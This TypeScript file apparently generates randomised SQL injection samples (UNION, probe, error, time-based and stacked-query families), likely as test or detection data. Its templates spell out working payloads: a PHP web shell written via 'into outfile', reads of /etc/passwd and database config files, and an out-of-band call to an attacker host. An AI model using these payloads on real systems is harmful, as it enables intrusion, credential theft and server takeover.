import {
  altered,
  digits,
  family,
  hex,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  repeat,
  same,
  text,
  words
} from '../template.ts';
import { attackerHost, inventedWord, lowerWord } from '../vocabulary/shared.ts';
import {
  alias,
  baseValue,
  bigNumber,
  catalogue,
  characterCodes,
  column,
  comment,
  hexString,
  injected,
  quoteless,
  readOut,
  serverFact,
  shortText,
  sql,
  table,
  tautology
} from '../vocabulary/sql.ts';

const all = maybe(' all', 0.5);
const union = text`union${all}${maybe(' distinct', 0.03)} select`;
const filler = mostly(
  [integer(1, 30), 5],
  ['null', 5],
  [bigNumber, 1],
  [text`'${shortText}'`, 1],
  ['@', 0.1],
  [quoteless, 0.4],
  ['char(45,120,45)', 0.1],
  ['0', 0.5],
  ['cast(null as int)', 0.1]
);
const counted = altered(integer(2, 25), (count, rng) =>
  Array.from({ length: Number(count) }, (_, at) => (rng.chance(0.02) ? 'null' : String(at + 1))).join(
    rng.pick([',', ',', ', '])
  )
);
const someColumns = repeat(filler, 1, 12, oneOf(',', ', '));
const columnsWithRead = text`${maybe(text`${repeat(filler, 1, 6, ',')},`, 0.7)}${oneOf(readOut, column, serverFact)}${maybe(text`,${repeat(filler, 1, 6, ',')}`, 0.7)}`;
const separator = mostly(
  ['0x3a', 3],
  ["':'", 2],
  ['char(58)', 1],
  ["'~'", 1],
  ['0x7e', 1],
  ['0x20', 0.5],
  ["','", 0.5],
  [hexString, 0.5]
);
const joined = oneOf(
  text`concat(${column},${separator},${column})`,
  text`concat_ws(${separator},${oneOf(serverFact, column)},${oneOf(serverFact, column)},${column})`,
  text`group_concat(${column}${maybe(text`,${separator},${column}`)}${maybe(text` separator ${separator}`)})`,
  text`string_agg(${column}||':'||${column},',')`,
  text`${column}||${oneOf("'~'", "':'", 'chr(58)')}||${column}`,
  text`${column}%2b':'%2b${column}`,
  text`${column}+':'+${column}`,
  text`concat(${hexString},${readOut},${hexString})`,
  text`listagg(${column},',') within group (order by ${column})`,
  text`json_group_array(${column})`,
  text`xmlagg(xmlelement(e,${column}))`,
  text`unhex(hex(${readOut}))`,
  text`cast(${readOut} as char)`,
  text`convert(${readOut} using latin1)`
);
const from = oneOf(
  text` from ${table}`,
  text` from ${table} where ${column}=${oneOf(bigNumber, text`'${shortText}'`, quoteless)}`,
  ' from dual',
  text` from ${table} limit ${integer(0, 9)},1`,
  text` from ${inventedWord}.${table}`,
  ' from information_schema.tables',
  ' from sysobjects',
  ' from (select 1)a'
);

/** Quotes, brackets, dots and commas in disorder: the fault a scanner provokes before it tries anything. */
const disorder = letters(`()'".,`, 4, 10);

export const unionTemplates = family('sql-injection/union', {
  counted: sql(injected(text`${union} ${counted}`)),
  nulls: sql(injected(text`${union} ${repeat('null', 1, 20, oneOf(',', ', '))}`)),
  fillers: sql(injected(text`${union} ${someColumns}${maybe(from, 0.3)}`)),
  'read-out': sql(injected(text`${union} ${columnsWithRead}${maybe(from)}`)),
  'joined-columns': sql(
    injected(
      text`${union} ${maybe(text`${repeat(filler, 1, 5, ',')},`)}${joined}${maybe(text`,${repeat(filler, 1, 5, ',')}`)}${from}`
    )
  ),
  catalogue: sql(injected(text`${union} ${maybe(text`${repeat(filler, 1, 4, ',')},`)}${catalogue}`)),
  'catalogue-all-names': sql(
    injected(
      text`${union} ${maybe(text`${repeat(filler, 1, 4, ',')},`)}group_concat(${words('table_name column_name schema_name')})${maybe(text`,${repeat(filler, 1, 4, ',')}`)} from information_schema.${words('tables columns schemata')}${maybe(' where table_schema=database()')}`
    )
  ),
  'no-gap': sql(
    text`${baseValue}${oneOf("'", '"', ')', '')}union${oneOf('(', ' ')}select${oneOf('(', ' ')}${someColumns}${maybe(')')}${maybe(comment)}`
  ),
  'parenthesised-select': sql(
    text`${maybe(baseValue)}${maybe("'")} union (select ${someColumns}${maybe(from)})${maybe(comment)}`
  ),
  'nested-parentheses': sql(
    injected(
      text`union(select(${integer(1, 9)}),${repeat(text`(${oneOf(serverFact, column, filler)})`, 1, 6, ',')}${maybe(text`from(${table})`)})`
    )
  ),
  'tool-markers': sql(
    text`${bigNumber}${oneOf('', "'", '"', ')', "')", "'))", '))')} union all select ${repeat(oneOf('null', bigNumber, text`${characterCodes('char', '+')}`, text`concat(0x${digits(10)},${oneOf(bigNumber, readOut)},0x${digits(10)})`), 1, 10, ',')}${maybe(' from dual')}${oneOf('--', '#', text`-- ${alias}`, '-- -', text` and (${same(bigNumber, (n) => `${n}=${n}`)}`)}`
  ),
  'bare-select': sql(
    text`${maybe(text`${baseValue} `)}${union} ${oneOf(counted, someColumns, columnsWithRead)}${maybe(from)}${maybe(comment)}`
  ),
  'limit-then-union': sql(
    text`${baseValue} limit ${integer(0, 9)}${maybe(text`,${integer(1, 9)}`)} ${union} ${someColumns}${maybe(comment)}`
  ),
  'having-then-union': sql(
    injected(text`${words('having where and')} 1=2 ${union} ${oneOf(someColumns, columnsWithRead)}`)
  ),
  'join-columns': sql(
    injected(
      text`union select * from ${repeat(text`(select ${oneOf(integer(1, 9), readOut)})${alias}`, 2, 5, oneOf(' join ', ',', ' cross join '))}`
    )
  ),
  'into-outfile': sql(
    injected(
      text`${union} ${maybe(text`${repeat(filler, 1, 4, ',')},`)}${oneOf(text`'<?php ${words('system eval passthru exec')}($_${words('GET POST REQUEST')}[${shortText}]); ?>'`, hexString, readOut, filler)} into ${words('outfile dumpfile')} ${oneOf(text`'/var/www/${lowerWord}/${lowerWord}.php'`, text`'c:/inetpub/wwwroot/${lowerWord}.php'`, text`'/tmp/${lowerWord}'`, hexString)}`
    )
  ),
  'load-file': sql(
    injected(
      text`${union} ${maybe(text`${repeat(filler, 1, 4, ',')},`)}load_file(${oneOf(text`'/etc/${words('passwd shadow hosts group')}'`, text`'c:/${words('boot.ini windows/win.ini')}'`, hexString)})`
    )
  ),
  'order-by-after': sql(
    injected(
      text`${union} ${someColumns} ${oneOf(text`order by ${integer(1, 9)}`, 'group by 1', text`limit ${integer(0, 9)},1`, text`having ${bigNumber}=${bigNumber}`)}`
    )
  ),
  'minus-intersect': sql(
    injected(text`${words('minus intersect except')} select ${someColumns} from ${oneOf('dual', table)}`)
  ),
  'values-clause': sql(injected(text`union values (${repeat(filler, 1, 6, ',')})`))
});

export const probeTemplates = family('sql-injection/probe', {
  'order-by': sql(
    text`${baseValue}${oneOf("'", '"', ')', "')", '', '', '')} order by ${integer(1, 100)}${oneOf(comment, comment, '')}`
  ),
  'order-by-list': sql(
    text`${baseValue}${oneOf("'", '')} ${words('order group')} by ${altered(integer(2, 15), (count) => Array.from({ length: Number(count) }, (_, at) => at + 1).join(','))}${maybe(comment)}`
  ),
  'order-by-expression': sql(
    text`${maybe(text`${column} `)}${oneOf(text`,(select ${bigNumber} from (select sleep(${integer(1, 9)}))${alias})`, text`(case when ${same(bigNumber, (n) => `${n}=${n}`)} then ${column} else ${column} end)`, text`if(1=${integer(1, 2)},${column},${column})`, text`,extractvalue(1,concat(0x7e,${serverFact}))`, text`rand(${oneOf('true', text`ascii(substr(${readOut},1,1))>${integer(32, 120)}`)})`)}${maybe(text` ${words('asc desc')}`)}${maybe(comment)}`
  ),
  'group-by-having': sql(
    injected(
      oneOf(
        text`group by ${repeat(text`${table}.${column}`, 1, 4, ',')} having ${same(integer(1, 9), (n) => `${n}=${n}`)}`,
        text`having ${same(bigNumber, (n) => `${n}=${n}`)}`,
        text`group by ${column} having count(*)>${integer(0, 3)}`
      )
    )
  ),
  limit: sql(
    text`${baseValue}${oneOf("'", '"', '')} limit ${integer(0, 100)}${oneOf(text`,${integer(1, 9)}`, text` offset ${integer(1, 9)}`, '')}${comment}`
  ),
  'procedure-analyse': sql(
    text`${baseValue}${oneOf("'", '')} ${maybe(text`limit ${integer(0, 9)},1 `)}procedure analyse(${oneOf('', text`${integer(1, 9)},${integer(1, 9)}`, text`extractvalue(${bigNumber},concat(0x3a,${serverFact})),1`)})${maybe(comment)}`
  ),
  'quote-comment': text`${baseValue}${oneOf("'", '"', "')", '")', "'))", '`', "';", '";', ');')}${maybe(' ', 0.4)}${comment}`,
  'quotes-and-semicolons': sql(
    text`${baseValue}${oneOf(`'"`, `"'`, `'";`, `''"`, `\\'"`, `'))`, `")`, `';`, "'||", "'+'", `'"--`, `'%20`, `'\\"`, `'"()`, `'),("`, `"),('`)}${oneOf('', ';', '--', '#', ')', text`(${lowerWord}`, disorder, text`${shortText}${disorder}`)}${maybe(comment)}`
  ),
  'comment-in-number': text`${integer(1, 999)}${oneOf('/**/', '/*!*/', text`/*${alias}*/`, text`/*!${digits(5)}${alias}*/`)}${oneOf(comment, text`${words('or and')}/**/${same(integer(1, 9), (n) => `${n}=${n}`)}`)}`,
  'as-injectjson': sql(injected(text`as ${alias} where ${same(bigNumber, (n) => `${n}=${n}`)}`)),
  'having-sum': sql(injected(text`union select ${words('sum count avg max')}(${column}) from ${table}`)),
  'bare-condition': sql(
    text`${maybe(integer(0, 9))}${words('or and || &&')}${oneOf(' ', '', '+')}${oneOf(
      same(letters('abxyz', 1, 2), (s) => `${s}=${s}`),
      'x=y',
      same(integer(0, 9), (n) => `${n}=${n}`),
      text`${integer(0, 9)} = ${integer(0, 9)}`,
      "'a'='a'",
      '(1=1)'
    )}${maybe(comment, 0.6)}`
  ),
  'bare-where': sql(
    text`${maybe('+')}${words('where having and or')} ${same(integer(0, 9), (n) => oneOf(`${n} = ${n}`, `${n}=${n}`, `'${n}'='${n}'`))}${maybe(comment)}`
  ),
  'not-like': sql(
    text`${integer(1, 999)}'${oneOf(' ', '+', '/**/')}${maybe('not')}${oneOf(' ', '+', '/**/')}${words('like = between rlike')}${oneOf(' ', '+')}'${integer(1, 999)}`
  ),
  'bare-catalogue': sql(
    text`select ${oneOf('*', column, serverFact, 'banner', 'name', 'table_name')} from ${oneOf('information_schema.tables', 'v$version where rownum=1', 'master..sysdatabases', 'sysobjects', 'pg_shadow', 'all_tables', 'sqlite_master', 'mysql.user', 'sys.user$', 'v$instance', 'pg_catalog.pg_user', 'user_objects', 'syscat.tables', 'master..syslogins')}${maybe(comment)}`
  ),
  'bare-case': sql(
    text`case when ${oneOf(text`${column}=${hexString}`, tautology)} then ${integer(0, 9)} else ${integer(0, 9)} end${maybe(comment)}`
  ),
  'multiplied-comparison': sql(text`(${bigNumber}=${bigNumber})${oneOf('*', ' and ', '+', '-')}${bigNumber}`),
  'bare-order-by': sql(
    text`${maybe(' ')}${words('order group')} by ${integer(1, 60)}${maybe(text`${oneOf(',', ' ')}${oneOf(integer(1, 9), 'asc', 'desc')}`, 0.3)}${maybe(' ')}${maybe(comment, 0.5)}`
  ),
  'bare-settings': sql(
    text`${maybe(baseValue)}${maybe(oneOf("'", ';', ' union '))}select ${oneOf(text`current_setting('${words('port hba_file config_file data_directory log_statement password_encryption')}')`, text`${serverFact}`, text`${column} from ${words('sysibm.sysversions sysibm.sysdummy1 sysibmadm.env_inst_info syscat.dbauth')}`, text`${serverFact} from dual`, text`distinct(column_name) from all_tab_columns`, text`name from v$database`, text`pg_read_file('${words('postgresql.conf pg_hba.conf /etc/passwd')}')`)}${maybe(';')}${maybe(comment)}`
  ),
  'declared-script': sql(
    text`${maybe(oneOf(';', "';", '1;'))}declare @${alias} ${words('varchar nvarchar char')}${maybe(' ')}(${words('4000 8000 255')}) ${words('select set')} @${alias}${maybe(' ')}=${maybe(' ')}${oneOf(text`0x${hex(12, 60)}`, quoteless, '')}${maybe(text`${oneOf(' ', ';')}exec${maybe(' ')}(@${alias})`)}`
  ),
  'executed-variable': sql(
    text`${maybe(oneOf(';', "';", ')'))}${words('exec execute print select')}${maybe(' ')}${oneOf(text`(@${alias})`, text`@@${lowerWord}`, text`@${alias}`, text`sp_executesql @${alias}`)}${maybe(comment)}`
  ),
  'quotes-with-operator': sql(
    text`${oneOf('', ' ', lowerWord)}${same(oneOf('"', "'"), (quote) => text`${quote} or ${quote}${quote}${oneOf('*', '^', '&', '-', ' ', '+', '|', '/')}${quote}`)}`
  ),
  'placeholder-delay': sql(
    injected(
      text`${words('sleep pg_sleep dbms_lock.sleep')}(${oneOf('@@time', '[delay]', '{time}', '$time', '%time%')})`
    )
  ),
  'error-in-condition': sql(
    text`${maybe(baseValue)}${maybe(oneOf(',', "'", '(', ' or ', ' and '))}${oneOf(text`iif(${bigNumber}=${bigNumber},1,1/0)`, text`elt(${same(bigNumber, (n) => `${n}=${n}`)},${bigNumber})`, 'isnull(1/0)', text`if(${bigNumber}=${bigNumber},1,(select 1 union select 2))`, text`make_set(${bigNumber}=${bigNumber},${bigNumber})`, text`len(@@servername)>${integer(0, 9)}`, text`${column}=0x${hex(8, 24)}`)}${maybe(comment, 0.3)}`
  ),
  'split-in-email': sql(
    text`${lowerWord}@${lowerWord}'or'${same(text`${lowerWord}.${words('com nl org')}`, (host) => `${host}'='${host}`)}`
  ),
  'national-text': sql(
    text`${maybe(lowerWord)}${oneOf("'", '', ' ')} or '${same(lowerWord, (word) => text`${word}' ${oneOf("= n'", "like '", "= 'te'+'", "<> n'")}${word}`)}${oneOf("'", "%'", '')}`
  ),
  'plus-for-blanks': sql(altered(injected(text`${union} ${counted}`), (written) => written.replaceAll(' ', '+'))),
  'plus-for-blanks-condition': sql(
    altered(injected(text`${words('or and')} ${tautology}`), (written) => written.replaceAll(' ', '+'))
  ),
  'host-lookup': sql(
    text`${baseValue}'${oneOf('||', '+', ' ')}(select ${words('load_file utl_inaddr.get_host_address utl_http.request')}(${oneOf(text`'${attackerHost}'`, quoteless)}))${oneOf(`||'`, `+'`, comment)}`
  )
});
